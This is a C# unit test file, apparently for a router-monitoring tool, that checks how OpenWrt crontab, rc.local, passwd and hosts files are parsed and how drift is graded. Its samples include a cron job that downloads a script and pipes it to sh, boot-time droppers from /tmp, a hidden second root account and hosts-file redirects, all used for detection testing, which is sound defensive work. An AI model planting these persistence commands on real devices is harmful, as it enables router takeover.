using FlaxGuard.Engine.Families;
using FlaxGuard.Engine.Drift;
using FlaxGuard.Engine.Facts;
using FlaxGuard.Engine.Probes;
using FlaxGuard.Engine.Probes.OpenWrt;
using FlaxGuard.Engine.Verdicts;
using FlaxGuard.Wording;

namespace FlaxGuard.Engine.Tests.OpenWrt;

/// <summary>The fact readers of OpenWrt's persistence files, on their own: crontab, boot scripts, passwd, hosts, overlay paths, releases.</summary>
[TestClass]
public sealed class PersistenceFactsTests
{
    private static Dictionary<string, string> Facts(Action<OpenWrtFactSheet> read) => OpenWrtSheetFacts.Of(read);

    [TestMethod]
    public void Crontab_GivesOneFactPerJob_AndTheHostOfADownload_ThroughCronVariables()
    {
        var facts = Facts(s => ScriptFacts.ReadCrontab("# m h dom mon dow\nSRC=http://203.0.113.7/m\n30 3 * * 0   reboot\n*/5 * * * * wget -q $SRC -O- | sh\n@reboot /tmp/.x\n", s));
        Assert.HasCount(5, facts, string.Join("\n", facts));
        Assert.AreEqual(3, facts.Keys.Count(k => k.StartsWith("cfg.scheduler.cron.") && !k.EndsWith(".fetch")));
        Assert.IsTrue(facts.ContainsValue("30 3 * * 0"));
        Assert.IsTrue(facts.Any(f => f.Key.EndsWith(".fetch") && f.Value == "203.0.113.7"));
        Assert.IsTrue(facts.Any(f => f.Key.EndsWith(".fetch") && f.Value == "file:/tmp/.x"));
    }

    [TestMethod]
    public void Crontab_IdIsTheCommand_SoBlanksAndScheduleOrderDoNotMatter()
    {
        var a = Facts(s => ScriptFacts.ReadCrontab("0 4 * * * /etc/init.d/dnsmasq   restart\n1 1 * * * reboot\n", s));
        var b = Facts(s => ScriptFacts.ReadCrontab("1 1 * * * reboot\n0\t4 * * *\t/etc/init.d/dnsmasq restart\n", s));
        CollectionAssert.AreEquivalent(a.ToArray(), b.ToArray());
    }

    [TestMethod]
    public void Crontab_BeyondTheLineLimit_SaysSo()
    {
        var text = string.Concat(Enumerable.Range(0, ScriptFacts.MaxCronLines + 5).Select(i => $"* * * * * echo {i}\n"));
        var facts = Facts(s => ScriptFacts.ReadCrontab(text, s));
        Assert.AreEqual(ScriptFacts.MaxCronLines, facts.Keys.Count(k => k.StartsWith("cfg.scheduler.cron.")));
        StringAssert.Contains(facts["openwrt.limit.crontab"], "more than 256 lines");
    }

    [TestMethod]
    public void StockRcLocal_IsEmpty_AndADropperIsFound()
    {
        var stock = "# Put your custom commands here that should be executed once\n# the system init finished. By default this file does nothing.\n\nexit 0\n";
        Assert.AreEqual("empty", Facts(s => ScriptFacts.ReadBootScript(stock, "rc.local", s))["cfg.scheduler.rc.local"]);
        var bad = Facts(s => ScriptFacts.ReadBootScript(stock.Replace("exit 0", ". /tmp/.sys/boot.sh\nexit 0"), "rc.local", s));
        Assert.AreEqual("file:/tmp/.sys/boot.sh", bad["cfg.scheduler.rc.local.fetch"]);
        Assert.AreNotEqual("empty", bad["cfg.scheduler.rc.local"]);
    }

    [TestMethod]
    public void Passwd_MarksEveryUidZero_AndRefusesBrokenLines()
    {
        var facts = Facts(s => PasswdFacts.Read("root:x:0:0:root:/root:/bin/ash\nntp:x:0:0:ntp:/var/run/ntp:/bin/ash\nnobody:*:65534:65534:nobody:/var:/bin/false\n", s));
        Assert.AreEqual("uid 0", facts["openwrt.account.root.root"]);
        Assert.AreEqual("uid 0", facts["openwrt.account.ntp.root"]);
        Assert.AreEqual("uid=65534 shell=/bin/false", facts["openwrt.account.nobody"]);
        Assert.IsFalse(facts.ContainsKey("openwrt.account.nobody.root"));
        Assert.ThrowsExactly<UbusDataException>(() => Facts(s => PasswdFacts.Read("root:x:zero:0:root:/root:/bin/ash\n", s)));
        Assert.ThrowsExactly<UbusDataException>(() => Facts(s => PasswdFacts.Read("root:x:0\n", s)));
    }

    [TestMethod]
    public void Hosts_MapsEveryName_CommentsIgnored()
    {
        var facts = Facts(s => HostsFacts.Read("127.0.0.1 localhost # loop\n\n203.0.113.80\tUpdate.Example.com  download.example.com\n#10.0.0.1 x\n", s));
        Assert.AreEqual("203.0.113.80", facts["cfg.dns.hosts.update.example.com"]);
        Assert.AreEqual("203.0.113.80", facts["cfg.dns.hosts.download.example.com"]);
        Assert.AreEqual("127.0.0.1", facts["cfg.dns.hosts.localhost"]);
        Assert.HasCount(3, facts);
    }

    [TestMethod]
    public void Hosts_WordsAreReadAsCollapsingBlanksAndSplittingGivesThem()
    {
        var names = string.Join(" \t ", Enumerable.Range(1, 20).Select(i => "N" + i + ".Example"));
        var text = "  198.51.100.7 \t\r a.example\tB.EXAMPLE\r\n2001:DB8::1\u00a0x y\u00a0z=%\n198.51.100.8 a.example " + new string('q', 130) + "\n203.0.113.9 " + names + "\n";
        var facts = Facts(s => HostsFacts.Read(text, s));
        // Reference: the line collapsed (space, tab, CR) and split at ' ', names lower-cased into key segments.
        var expected = new Dictionary<string, SortedSet<string>>();
        foreach (var raw in text.Split('\n'))
        {
            var line = raw.Trim();
            if (line.Length == 0) continue;
            var words = line.Split([' ', '\t', '\r'], StringSplitOptions.RemoveEmptyEntries);
            var address = Engine.Text.FactText.Clean(words[0], 64).ToLowerInvariant();
            for (var k = 1; k < words.Length && k < 16; k++)
            {
                var key = "cfg.dns.hosts." + Engine.Text.FactText.KeySegment(Engine.Text.Ordinal.ToLowerAscii(words[k]), 100);
                if (!expected.TryGetValue(key, out var set)) expected[key] = set = new SortedSet<string>(StringComparer.Ordinal);
                set.Add(address);
            }
        }
        Assert.HasCount(expected.Count, facts);
        foreach (var (key, addresses) in expected) Assert.AreEqual(string.Join(", ", addresses), facts[key], key);
        Assert.AreEqual("198.51.100.7, 198.51.100.8", facts["cfg.dns.hosts.a.example"]);
        Assert.IsTrue(facts.ContainsKey("cfg.dns.hosts.n15.example"));
        Assert.IsFalse(facts.ContainsKey("cfg.dns.hosts.n16.example"), "at most 15 names a line");
    }

    [TestMethod]
    [DataRow("/usr/bin/.dbus-daemon", "exec")]
    [DataRow("/sbin/dropbear", "exec")]
    [DataRow("/lib/libc.so", "lib")]
    [DataRow("/usr/lib/lua/luci/dispatcher.lua", "lib")]
    [DataRow("/www/luci-static/resources/ui.js", "web")]
    [DataRow("/usr/share/rpcd/acl.d/backdoor.json", "web")]
    [DataRow("/etc/init.d/sysupd", "init")]
    [DataRow("/etc/hotplug.d/iface/99-x", "init")]
    [DataRow("/etc/crontabs/nobody", "cron")]
    [DataRow("/etc/opkg/customfeeds.conf", "feeds")]
    [DataRow("/etc/board.json", "etc")]
    [DataRow("/usr/share/doc/x", "usr")]
    [DataRow("/etc/config/network", null)]
    [DataRow("/etc/crontabs/root", null)]
    [DataRow("/etc/shadow", null)]
    [DataRow("/usr/lib/opkg/status", null)]
    [DataRow("/root/.ash_history", null)]
    [DataRow("/log/messages", null)]
    public void OverlayPath_HasTheExpectedClass(string path, string? expected)
    {
        Assert.AreEqual(expected, OverlayFacts.Classify(path), path);
    }

    [TestMethod]
    [DataRow("23.05.5", "r24106-10cc5fcd00", OpenWrtReleases.Official)]
    [DataRow("23.05.5", "r24106-4f7c2a91be", OpenWrtReleases.NotOfficial)]
    [DataRow("22.03.5", "r20134-5f15225c1e", OpenWrtReleases.Official)]
    [DataRow("19.07.10", "r11427-9ce6aa9d8d", OpenWrtReleases.NotListed)]
    public void Release_IsCheckedAgainstThePublishedRevision(string version, string revision, string expected)
    {
        Assert.AreEqual(expected, OpenWrtReleases.Origin(version, revision));
    }

    [TestMethod]
    [DataRow("openwrt.account.sysadm", DriftKind.Added, Severity.Critical)]
    [DataRow("openwrt.account.ntp.root", DriftKind.Added, Severity.Critical)]
    [DataRow("openwrt.account.ntp", DriftKind.Changed, Severity.High)]
    [DataRow("openwrt.rpcd-admin.monitor", DriftKind.Added, Severity.Critical)]
    [DataRow("openwrt.file.exec./usr/bin/x", DriftKind.Added, Severity.Critical)]
    [DataRow("openwrt.file.init./etc/init.d/x", DriftKind.Changed, Severity.Critical)]
    [DataRow("openwrt.file.etc./etc/board.json", DriftKind.Changed, Severity.Medium)]
    [DataRow("openwrt.file.exec./usr/bin/x", DriftKind.Removed, Severity.Low)]
    [DataRow("openwrt.process.tmp./tmp/x", DriftKind.Added, Severity.Critical)]
    [DataRow("openwrt.package.x", DriftKind.Added, Severity.High)]
    [DataRow("openwrt.wireguard.peer.0123456789abcdef", DriftKind.Added, Severity.Critical)]
    [DataRow("openwrt.upnpd", DriftKind.Changed, Severity.High)]
    [DataRow("openwrt.init.sysupd", DriftKind.Added, Severity.High)]
    [DataRow("openwrt.build-origin", DriftKind.Changed, Severity.Critical)]
    [DataRow("openwrt.limit.overlay", DriftKind.Added, Severity.Medium)]
    [DataRow("cfg.scheduler.rc.local.fetch", DriftKind.Added, Severity.Critical)]
    [DataRow("cfg.scheduler.cron.0123456789abcdef.fetch", DriftKind.Added, Severity.Critical)]
    [DataRow("cfg.dns.hosts.update.example.com", DriftKind.Added, Severity.Critical)]
    [DataRow("cfg.script.firewall-include./etc/fw.d/x.sh", DriftKind.Added, Severity.High)]
    public void EveryOpenWrtKey_HasItsRule_AndASentence(string key, DriftKind kind, Severity severity)
    {
        var rule = DeviceFamilies.CreateDriftRules().Find(kind, key);
        Assert.IsNotNull(rule, key);
        Assert.AreEqual(severity, rule.Severity, key);
        Assert.IsTrue(DriftSentences.Has(rule.Code), rule.Code);
    }
}
